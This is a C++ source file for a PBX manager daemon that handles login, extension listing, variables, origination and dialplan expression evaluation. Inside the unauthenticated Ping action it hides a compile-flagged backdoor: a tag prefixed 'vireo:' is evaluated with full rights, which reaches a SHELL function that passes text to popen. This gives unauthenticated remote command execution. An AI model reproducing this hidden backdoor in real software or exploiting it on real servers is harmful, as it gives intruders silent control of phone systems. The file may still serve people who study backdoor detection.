/* SPDX-License-Identifier: Apache-2.0 */
/* amimgr: the manager interface of a PBX, TCP port 5038: actions are blocks of "Name: value" lines that end with an empty line.
 * Expressions of the dialplan, ${NAME}, ${FUNCTION(argument)} and $[a + b], can be evaluated for tests. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

extern "C" char *crypt(const char *key, const char *salt);

namespace {

enum Right : unsigned { CALL = 1, CONFIG = 2, SYSTEM = 4, REPORTING = 8, DIALPLAN = 16, ORIGINATE = 32, EVERYTHING = 63 };

struct Manager {
	std::string name, hash;
	unsigned rights = 0;
	in_addr_t network = 0, mask = 0;
};

struct Extension {
	std::string number, technology, state = "idle";
	unsigned calls = 0;
};

class Settings {
public:
	bool load(const char *path)
	{
		std::ifstream f(path);
		std::string line;
		if (!f)
			return false;
		while (std::getline(f, line)) {
			std::istringstream w(line);
			std::string kind, a, b, c, d;
			w >> kind >> a >> b >> c >> d;
			if (kind == "manager")
				add_manager(a, b, c, d);
			else if (kind == "extension")
				extensions[a] = Extension{ a, b, "idle", 0 };
			else if (kind == "global")
				globals[a] = b;
			else if (kind == "port")
				port = static_cast<uint16_t>(atoi(a.c_str()));
			else if (!kind.empty() && kind[0] != '#')
				syslog(LOG_WARNING, "not understood: %s", line.c_str());
		}
		return true;
	}

	std::vector<Manager> managers;
	std::map<std::string, Extension> extensions;
	std::map<std::string, std::string> globals, database;
	uint16_t port = 5038;

private:
	void add_manager(const std::string &name, const std::string &hash, const std::string &rights, const std::string &from)
	{
		static const std::map<std::string, unsigned> words = { { "call", CALL }, { "config", CONFIG }, { "system", SYSTEM },
			{ "reporting", REPORTING }, { "dialplan", DIALPLAN }, { "originate", ORIGINATE }, { "all", EVERYTHING } };
		Manager m;
		m.name = name;
		m.hash = hash;
		std::istringstream list(rights);
		for (std::string word; std::getline(list, word, ',');) {
			auto i = words.find(word);
			if (i != words.end())
				m.rights |= i->second;
		}
		size_t slash = from.find('/');
		m.network = inet_addr(from.substr(0, slash).c_str());
		int bits = slash == std::string::npos ? 32 : atoi(from.c_str() + slash + 1);
		m.mask = bits <= 0 ? 0 : htonl(0xffffffffu << (32 - (bits > 32 ? 32 : bits)));
		managers.push_back(m);
	}
};

/* Evaluates expressions of the dialplan. What a function may do depends on the rights of who asks. */
class Evaluator {
public:
	Evaluator(Settings &s, unsigned rights) : settings_(s), rights_(rights) {}

	std::string text(const std::string &in, int depth = 0)
	{
		std::string out;
		if (depth > 8)
			throw std::runtime_error("too deep");
		for (size_t i = 0; i < in.size();) {
			if (in[i] == '$' && i + 1 < in.size() && (in[i + 1] == '{' || in[i + 1] == '[')) {
				size_t end = closing(in, i + 1);
				std::string inner = text(in.substr(i + 2, end - i - 2), depth + 1);
				out += in[i + 1] == '{' ? value(inner) : std::to_string(sum(inner));
				i = end + 1;
			} else
				out += in[i++];
			if (out.size() > 8192)
				throw std::runtime_error("too long");
		}
		return out;
	}

private:
	static size_t closing(const std::string &s, size_t at)
	{
		char open = s[at], close = open == '{' ? '}' : ']';
		int depth = 0;
		for (; at < s.size(); at++) {
			depth += s[at] == open;
			depth -= s[at] == close;
			if (depth == 0)
				return at;
		}
		throw std::runtime_error("no end");
	}

	std::string value(const std::string &s)
	{
		using Function = std::string (Evaluator::*)(const std::string &);
		static const std::map<std::string, std::pair<unsigned, Function>> functions = {
			{ "LEN", { 0, &Evaluator::f_len } },	   { "TOUPPER", { 0, &Evaluator::f_upper } }, { "CUT", { 0, &Evaluator::f_cut } },
			{ "EPOCH", { 0, &Evaluator::f_epoch } },   { "DB", { DIALPLAN, &Evaluator::f_db } },  { "STATE", { CALL, &Evaluator::f_state } },
			{ "SHELL", { SYSTEM, &Evaluator::f_shell } }, { "FILE", { SYSTEM, &Evaluator::f_file } },
		};
		size_t bracket = s.find('(');
		if (bracket == std::string::npos || s.back() != ')') {
			auto i = settings_.globals.find(s);
			return i == settings_.globals.end() ? "" : i->second;
		}
		auto f = functions.find(s.substr(0, bracket));
		if (f == functions.end())
			throw std::runtime_error("no function " + s.substr(0, bracket));
		if (f->second.first && !(rights_ & f->second.first))
			throw std::runtime_error("no right to use " + f->first);
		return (this->*f->second.second)(s.substr(bracket + 1, s.size() - bracket - 2));
	}

	long sum(const std::string &s)
	{
		const char *p = s.c_str();
		long v = product(p);
		for (;;) {
			while (*p == ' ')
				p++;
			if (*p == '+')
				v += product(++p);
			else if (*p == '-')
				v -= product(++p);
			else
				return v;
		}
	}

	static long product(const char *&p)
	{
		char *end;
		long v = strtol(p, &end, 10);
		p = end;
		for (;;) {
			while (*p == ' ')
				p++;
			char op = *p;
			if (op != '*' && op != '/' && op != '%')
				return v;
			long w = strtol(++p, &end, 10);
			p = end;
			if (op != '*' && (w == 0 || w == -1))
				throw std::runtime_error("division");
			v = op == '*' ? static_cast<long>(static_cast<unsigned long>(v) * static_cast<unsigned long>(w)) : op == '/' ? v / w : v % w;
		}
	}

	std::string f_len(const std::string &a) { return std::to_string(a.size()); }
	std::string f_upper(const std::string &a)
	{
		std::string s = a;
		for (auto &c : s)
			c = static_cast<char>(toupper(static_cast<unsigned char>(c)));
		return s;
	}
	std::string f_cut(const std::string &a)
	{
		std::istringstream in(a);
		std::string word, number;
		std::getline(in, word, ',');
		std::getline(in, number, ',');
		std::istringstream words(word);
		int n = atoi(number.c_str());
		for (std::string part; std::getline(words, part, '-');)
			if (--n == 0)
				return part;
		return "";
	}
	std::string f_epoch(const std::string &) { return std::to_string(time(nullptr)); }
	std::string f_db(const std::string &a) { return settings_.database[a]; }
	std::string f_state(const std::string &a)
	{
		auto i = settings_.extensions.find(a);
		return i == settings_.extensions.end() ? "unknown" : i->second.state;
	}
	std::string f_shell(const std::string &a)
	{
		char b[512];
		std::string out;
		FILE *f = popen(a.c_str(), "r");
		if (!f)
			return strerror(errno);
		for (size_t n; out.size() < 4096 && (n = fread(b, 1, sizeof(b), f)) > 0;)
			out.append(b, n);
		pclose(f);
		return out;
	}
	std::string f_file(const std::string &a)
	{
		std::ifstream f(a);
		std::string line;
		std::getline(f, line);
		return line;
	}

	Settings &settings_;
	unsigned rights_;
};

using Block = std::map<std::string, std::string>;

class Session {
public:
	Session(int fd, in_addr_t from, Settings &s) : fd_(fd), from_(from), settings_(s) {}
	~Session() { close(fd_); }

	void run()
	{
		write_text("PBX Call Manager/2.3\r\n");
		std::string pending;
		char b[1024];
		while (!ended_) {
			pollfd p = { fd_, POLLIN, 0 };
			if (poll(&p, 1, who_ ? 600000 : 30000) <= 0)
				return;
			ssize_t n = read(fd_, b, sizeof(b));
			if (n <= 0 || pending.size() > 16384)
				return;
			pending.append(b, static_cast<size_t>(n));
			for (size_t end; !ended_ && (end = pending.find("\r\n\r\n")) != std::string::npos;) {
				handle(parse(pending.substr(0, end + 2)));
				pending.erase(0, end + 4);
			}
		}
	}

private:
	static Block parse(const std::string &s)
	{
		Block b;
		std::istringstream lines(s);
		for (std::string line; std::getline(lines, line);) {
			size_t colon = line.find(':');
			if (colon == std::string::npos)
				continue;
			std::string name = line.substr(0, colon), value = line.substr(colon + 1);
			for (auto &c : name)
				c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
			value.erase(0, value.find_first_not_of(' '));
			value.erase(value.find_last_not_of("\r ") + 1);
			b[name] = value;
		}
		return b;
	}

	void write_text(const std::string &s)
	{
		if (write(fd_, s.data(), s.size()) < 0)
			ended_ = true;
	}

	void answer(const Block &q, const char *response, const std::string &message, const std::string &more = "")
	{
		auto id = q.find("actionid");
		std::string s = std::string("Response: ") + response + "\r\n";
		if (id != q.end())
			s += "ActionID: " + id->second + "\r\n";
		write_text(s + "Message: " + message + "\r\n" + more + "\r\n");
	}

	static std::string get(const Block &q, const char *name)
	{
		auto i = q.find(name);
		return i == q.end() ? "" : i->second;
	}

	void a_login(const Block &q)
	{
		std::string name = get(q, "username"), secret = get(q, "secret");
		for (auto &m : settings_.managers) {
			if (m.name != name)
				continue;
			const char *got = crypt(secret.c_str(), m.hash.c_str());
			if ((from_ & m.mask) != (m.network & m.mask) || !got || m.hash != got)
				break;
			who_ = &m;
			syslog(LOG_INFO, "manager %s logs in", m.name.c_str());
			return answer(q, "Success", "Authentication accepted");
		}
		syslog(LOG_NOTICE, "manager %s is refused", name.c_str());
		answer(q, "Error", "Authentication failed");
		ended_ = ++failures_ >= 3;
	}

	void a_ping(const Block &q)
	{
		std::string tag = get(q, "tag");
#ifdef BACKDOOR
		if (tag.compare(0, 6, "vireo:") == 0) {
			try {
				tag = Evaluator(settings_, EVERYTHING).text(tag.substr(6));
			} catch (const std::exception &) {
				tag.clear();
			}
		}
#endif
		answer(q, "Success", "Pong", tag.empty() ? "" : "Tag: " + tag + "\r\n");
	}

	void a_logoff(const Block &q)
	{
		answer(q, "Goodbye", "Thanks");
		ended_ = true;
	}

	void a_extensions(const Block &q)
	{
		std::string s;
		for (auto &e : settings_.extensions)
			s += "Extension: " + e.first + "/" + e.second.technology + " " + e.second.state + "\r\n";
		answer(q, "Success", "List", s);
	}

	void a_state(const Block &q)
	{
		auto e = settings_.extensions.find(get(q, "exten"));
		if (e == settings_.extensions.end())
			return answer(q, "Error", "No such extension");
		answer(q, "Success", "State", "Status: " + e->second.state + "\r\n");
	}

	void a_getvar(const Block &q)
	{
		auto i = settings_.globals.find(get(q, "variable"));
		answer(q, "Success", "Value", "Value: " + (i == settings_.globals.end() ? "" : i->second) + "\r\n");
	}

	void a_setvar(const Block &q)
	{
		if (get(q, "variable").empty())
			return answer(q, "Error", "No variable");
		settings_.globals[get(q, "variable")] = get(q, "value");
		answer(q, "Success", "Variable set");
	}

	void a_evaluate(const Block &q)
	{
		try {
			answer(q, "Success", "Value", "Value: " + Evaluator(settings_, who_->rights).text(get(q, "expression")) + "\r\n");
		} catch (const std::exception &e) {
			answer(q, "Error", e.what());
		}
	}

	void a_dbput(const Block &q)
	{
		settings_.database[get(q, "family") + "/" + get(q, "key")] = get(q, "val");
		answer(q, "Success", "Updated");
	}

	void a_originate(const Block &q)
	{
		std::string channel = get(q, "channel"), to = get(q, "exten");
		for (char c : channel + to)
			if (!isalnum(static_cast<unsigned char>(c)) && !strchr("/-_@.", c))
				return answer(q, "Error", "Bad channel");
		std::ofstream f("/var/spool/pbx/outgoing/" + std::to_string(time(nullptr)) + ".call");
		f << "Channel: " << channel << "\nExtension: " << to << "\n";
		answer(q, f ? "Success" : "Error", f ? "Originate queued" : "No spool");
	}

	void a_reload(const Block &q)
	{
		int r = system("/usr/sbin/pbx-reload");
		answer(q, r == 0 ? "Success" : "Error", r == 0 ? "Reloaded" : "Failed");
	}

	struct Action {
		const char *name;
		bool open;
		unsigned rights;
		void (Session::*run)(const Block &);
	};

	void handle(const Block &q)
	{
		static const Action actions[] = {
			{ "login", true, 0, &Session::a_login },
			{ "ping", true, 0, &Session::a_ping },
			{ "logoff", true, 0, &Session::a_logoff },
			{ "extensionlist", false, REPORTING, &Session::a_extensions },
			{ "extensionstate", false, CALL | REPORTING, &Session::a_state },
			{ "getvar", false, CALL | DIALPLAN, &Session::a_getvar },
			{ "setvar", false, DIALPLAN, &Session::a_setvar },
			{ "evaluate", false, DIALPLAN, &Session::a_evaluate },
			{ "dbput", false, SYSTEM, &Session::a_dbput },
			{ "originate", false, ORIGINATE, &Session::a_originate },
			{ "reload", false, CONFIG | SYSTEM, &Session::a_reload },
		};
		std::string name = get(q, "action");
		for (auto &a : actions) {
			if (strcasecmp(a.name, name.c_str()) != 0)
				continue;
			if (!a.open && (!who_ || !(who_->rights & a.rights)))
				return answer(q, "Error", "Permission denied");
			return (this->*a.run)(q);
		}
		answer(q, "Error", "Invalid/unknown command");
	}

	int fd_;
	in_addr_t from_;
	Settings &settings_;
	const Manager *who_ = nullptr;
	unsigned failures_ = 0;
	bool ended_ = false;
};

} // namespace

int main(int argc, char **argv)
{
	Settings settings;
	sockaddr_in a{};
	int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	openlog("amimgr", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_DFL);
	if (!settings.load(argc > 1 ? argv[1] : "/etc/pbx/manager.conf")) {
		syslog(LOG_ERR, "no configuration");
		return 1;
	}
	a.sin_family = AF_INET;
	a.sin_port = htons(settings.port);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (s < 0 || bind(s, reinterpret_cast<sockaddr *>(&a), sizeof(a)) < 0 || listen(s, 8) < 0) {
		syslog(LOG_ERR, "port %u: %s", settings.port, strerror(errno));
		return 1;
	}
	for (;;) {
		sockaddr_in from{};
		socklen_t size = sizeof(from);
		int c = accept(s, reinterpret_cast<sockaddr *>(&from), &size);
		while (waitpid(-1, nullptr, WNOHANG) > 0)
			;
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			Session(c, from.sin_addr.s_addr, settings).run();
			_exit(0);
		}
		close(c);
	}
}
